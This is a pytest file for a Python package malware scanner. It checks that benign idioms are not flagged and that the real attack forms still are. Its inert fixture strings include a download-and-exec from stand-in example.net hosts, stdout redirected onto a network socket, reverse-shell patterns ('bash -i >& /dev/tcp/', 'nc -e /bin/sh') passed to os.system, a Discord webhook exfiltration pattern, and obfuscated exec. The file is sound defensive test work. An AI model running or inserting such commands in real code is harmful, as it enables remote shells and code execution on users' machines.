"""Rules 44: five everyday idioms that read like an attack to a rule that looked at their
shape alone. Found on a wider legitimate sample (PyPI's projects ranked 1,001 to 3,000 and
a second long-tail sample, ``benchmarks/scan_corpus.py --top 3000 --tail 1500 --seed 27``):

- ``getattr(builtins, "print", None)``: a plain literal naming a builtin that runs no
  code is a check of what this Python has, not a name hidden from a reader;
- escapes in a raw string are a regular expression's own (``r"[\\000-\\040]"``) and decode
  to nothing; a raw string of code, saved and run, keeps its escapes;
- ``os.dup2`` onto a socket to a path on this machine (``AF_UNIX``) is a runtime handing
  its output to its supervisor, not a shell given to a remote host;
- buildout's and old projects' bootstrap scripts ran setuptools' own installer from the
  addresses it was published at (``exec(urlopen("https://bootstrap.pypa.io/ez_setup.py")
  .read(), ez)``);
- ``torch.load(..., weights_only=True)`` loads tensors and runs no code;
- a pattern handed to ``re`` (``re.compile(r"(curl\\s|/dev/tcp/)")``) is what a scanner or
  a parser looks for, not a command, an address or a path the code uses;
- ``urlretrieve(url, path)`` at import saves a download (a model's weights to a cache):
  it is network use, not a call made for its own sake whose answer nobody reads.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import wheel
from tests.support.scan import judge, judge_in_function


def _imported(init: str) -> dict[str, float]:
    rules, _held = judge(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    return rules


@pytest.mark.parametrize("name", ["print", "raw_input", "unicode"])
def test_getattr_of_a_plain_builtin_name_hides_nothing(name: str) -> None:
    rules = _imported(f"import builtins\noutput = getattr(builtins, {name!r}, None)\n")
    assert "obfuscated" not in rules


@pytest.mark.parametrize(
    "spelled", ["'ex' + 'ec'", "'exec'", "''.join(['e', 'v', 'a', 'l'])", "'__import__'"]
)
def test_getattr_of_a_builtin_that_runs_code_is_still_obfuscation(spelled: str) -> None:
    rules = _imported(f"import builtins\nrun = getattr(builtins, {spelled})\n")
    assert rules.get("obfuscated", 0) >= 8


def _escaped(count: int, raw: bool, code: bool = False) -> str:
    """A literal of ``count`` times ten ``\\x`` escapes; ``code``: in an obfuscated
    script's text (kept raw to be saved and run later)."""
    body = "".join(f"\\x{ord(c):02x}" for c in "abcdefghij" * count)
    if code:
        body = f"from builtins import *; run = (lambda s: globals()['{body}'](s))"
    quote = "r'''" if raw else "'''"
    return f"PATTERN = {quote}{body}'''\n"


def test_escapes_in_a_raw_regular_expression_are_no_escape_soup() -> None:
    assert "obfuscated" not in _imported(_escaped(30, raw=True))


def test_escapes_python_decodes_are_still_escape_soup() -> None:
    assert _imported(_escaped(30, raw=False)).get("obfuscated", 0) >= 8


def test_a_raw_string_of_code_keeps_its_escapes() -> None:
    assert _imported(_escaped(30, raw=True, code=True)).get("obfuscated", 0) >= 8


_DUP = (
    "import os, socket, sys\n"
    "def redirect(path):\n"
    "    with socket.socket({family}socket.SOCK_STREAM) as s:\n"
    "        s.connect(path)\n"
    "        os.dup2(s.fileno(), sys.stdout.fileno())\n"
)


def test_output_handed_to_a_local_socket_is_no_reverse_shell() -> None:
    rules, held = judge_in_function(_DUP.format(family="socket.AF_UNIX, "))
    assert "reverse-shell" not in rules
    assert not held


@pytest.mark.parametrize("family", ["", "socket.AF_INET, "])
def test_a_network_socket_on_the_standard_streams_is_still_a_reverse_shell(family: str) -> None:
    rules, held = judge_in_function(_DUP.format(family=family))
    assert rules.get("reverse-shell") == 10
    assert held


_BOOTSTRAP = "from urllib.request import urlopen\nez = {{}}\nexec(urlopen({url!r}).read(), ez)\n"


@pytest.mark.parametrize(
    "url",
    [
        "https://bootstrap.pypa.io/ez_setup.py",
        "http://peak.telecommunity.com/dist/ez_setup.py",
        "http://downloads.buildout.org/2/bootstrap.py",
    ],
)
def test_a_bootstrap_script_running_setuptools_installer_is_no_download_exec(url: str) -> None:
    files = {"demo/__init__.py": "X = 1\n", "bootstrap.py": _BOOTSTRAP.format(url=url)}
    rules, held = judge(wheel(files), "demo-1.0-py3-none-any.whl")
    assert "download-exec" not in rules
    assert not held


@pytest.mark.parametrize(
    "url", ["https://bootstrap.pypa.io.example.net/ez_setup.py", "https://cdn.example.net/ez.py"]
)
def test_code_run_from_any_other_address_is_still_download_exec(url: str) -> None:
    files = {"demo/__init__.py": "X = 1\n", "bootstrap.py": _BOOTSTRAP.format(url=url)}
    rules, held = judge(wheel(files), "demo-1.0-py3-none-any.whl")
    assert rules.get("download-exec") == 10
    assert held


_TORCH = (
    "import io, requests, torch\n"
    "def load(url):\n"
    "    return torch.load(io.BytesIO(requests.get(url).content){keywords})\n"
)


def test_tensors_loaded_in_weights_only_mode_are_no_download_exec() -> None:
    rules, _held = judge_in_function(_TORCH.format(keywords=", weights_only=True"))
    assert "download-exec" not in rules


@pytest.mark.parametrize("keywords", ["", ", weights_only=False", ", weights_only=safe"])
def test_a_download_unpickled_by_torch_is_still_download_exec(keywords: str) -> None:
    rules, _held = judge_in_function(_TORCH.format(keywords=keywords))
    assert rules.get("download-exec") == 10


_PATTERN = (
    "import re\n"
    'SHELL = re.compile(r"(bash -i >& /dev/tcp/|nc -e /bin/sh)\\s", re.I)\n'
    'HOOK = re.search(r"https://discord\\.com/api/webhooks/\\d+/[\\w-]+", TEXT)\n'
)


def test_patterns_a_scanner_looks_for_are_not_what_it_does() -> None:
    rules = _imported(_PATTERN)
    assert "reverse-shell" not in rules
    assert "exfil-sink" not in rules


def test_the_same_text_used_as_a_command_is_still_read() -> None:
    rules = _imported(
        _PATTERN.replace("re.compile(", "os.system(").replace("import re", "import os, re")
    )
    assert rules.get("reverse-shell") == 10


_WEIGHTS = (
    "import os, urllib.request\n"
    "path = os.path.expanduser('~/.cache/demo/model.ckpt')\n"
    "if not os.path.exists(path):\n"
    "    urllib.request.urlretrieve('https://zenodo.org/record/1/files/model.ckpt', {target})\n"
)


def test_a_download_saved_to_a_file_on_import_is_no_beacon() -> None:
    rules = _imported(_WEIGHTS.format(target="path"))
    assert rules.get("import-network") == 5
    assert "phone-home" not in rules


def test_a_download_thrown_away_on_import_is_still_a_beacon() -> None:
    assert _imported(_WEIGHTS.format(target="")).get("phone-home") == 8
